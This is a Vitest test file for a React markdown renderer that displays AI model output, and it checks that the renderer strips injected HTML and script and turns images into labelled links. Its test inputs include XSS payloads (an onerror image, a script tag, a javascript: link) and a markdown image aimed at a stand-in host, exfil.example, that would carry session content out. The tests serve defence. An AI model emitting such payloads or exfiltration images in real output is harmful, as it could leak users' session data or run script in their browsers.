import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { StepMarkdown } from "./markdown";

const render = (text: string) => renderToStaticMarkup(createElement(StepMarkdown, { text }));

test("tables, strikethrough and task lists render as models write them", () => {
  const html = render("| operation | cost |\n|---|---|\n| `get` | O(1) |\n\n~~slow~~\n\n- [x] tests");
  expect(html).toContain("<table>");
  expect(html).toContain("<td><code>get</code></td>");
  expect(html).toContain("<del>slow</del>");
  expect(html).toContain('type="checkbox"');
});

test("model output cannot inject HTML or script", () => {
  const html = render('<img src=x onerror="alert(1)"> <script>alert(2)</script> [click](javascript:alert(3))');
  expect(html).not.toContain("<img");
  expect(html).not.toContain("<script");
  expect(html).not.toContain("javascript:");
});

test("images in model output are never loaded: a link says where they go", () => {
  const html = render(
    '![secret](https://exfil.example/c?q=session-content) ![](/api/sessions) ![x](data:image/png;base64,AAAA) <img src="https://exfil.example/raw">',
  );
  expect(html).not.toContain("<img");
  expect(html).toContain('href="https://exfil.example/c?q=session-content"');
  expect(html).toContain("Image “secret”, not loaded: open from exfil.example");
  expect(html).toContain('rel="noreferrer noopener"');
  expect(html).toContain("open from this app");
  expect(html).toContain("(removed: not a web address)");
});

test("reference-style and linked images are links too", () => {
  const html = render(
    "[![badge](https://img.example/b.svg)](https://site.example)\n\n![ref][r]\n\n[r]: http://ref.example/i.png",
  );
  expect(html).not.toContain("<img");
  expect(html).toContain('href="https://site.example"');
  expect(html).toContain("Image “badge”, not loaded (from img.example)");
  expect(html).not.toMatch(/<a[^>]*>(?:(?!<\/a>).)*<a/s); // no link inside a link
  expect(html).toContain("open from ref.example");
});
